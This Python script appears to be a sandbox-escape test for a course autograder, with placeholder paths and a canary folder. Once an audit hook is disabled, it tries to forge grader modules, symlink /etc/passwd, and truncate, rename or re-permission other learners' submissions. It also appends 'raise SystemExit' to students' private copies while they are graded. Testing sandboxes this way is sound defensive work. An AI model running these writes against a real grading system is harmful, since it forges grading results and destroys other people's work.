

# With the audit hook off, change files: the grader's own modules (which it might import later),
# other learners' submissions, and a folder anyone may write to.
import glob as _glob
import os as _os

import unhook as _unhook

_ROOT = _unhook.grader_root() or "/nonexistent"
_CLASS = "__CLASS__"
_CANARY = "__CANARY__"


def _write(path, text):
    with open(path, "a", encoding="utf-8") as out:
        out.write(text)


_unhook.attempt("grader module", lambda: _write(_os.path.join(_ROOT, "graders", "ci_formats.py"), "\nFORGED = 1\n"))
_unhook.attempt("new grader module", lambda: _os.rename(__file__, _os.path.join(_ROOT, "graders", "zz_attack.py")))
_unhook.attempt("canary", lambda: _write(_os.path.join(_CANARY, "written"), "x"))
_unhook.attempt("mkfifo", lambda: _os.mkfifo(_os.path.join(_CANARY, "fifo")))
_unhook.attempt("mknod", lambda: _os.mknod(_os.path.join(_CANARY, "node")))
_unhook.attempt("symlink", lambda: _os.symlink("/etc/passwd", _os.path.join(_CANARY, "link")))
_unhook.attempt("mkdir", lambda: _os.mkdir(_os.path.join(_CANARY, "folder")))
for _path in _glob.glob(_os.path.join(_CLASS, "*", "*.py")):
    _unhook.attempt("chmod", lambda: _os.chmod(_path, 0o777))
    _unhook.attempt("utime", lambda: _os.utime(_path, (0, 0)))
    _unhook.attempt("chown", lambda: _os.chown(_path, 1, 1))
    _unhook.attempt("setxattr", lambda: _os.setxattr(_path, "user.attack", b"1"))
    _unhook.attempt("truncate", lambda: _os.truncate(_path, 0))
    _unhook.attempt("rename", lambda: _os.rename(_path, _path + ".gone"))
for _path in _glob.glob("/tmp/course-*/**/*.py", recursive=True):  # others' private copies, while graded
    _unhook.attempt("sabotage", lambda: _write(_path, "\nraise SystemExit\n"))
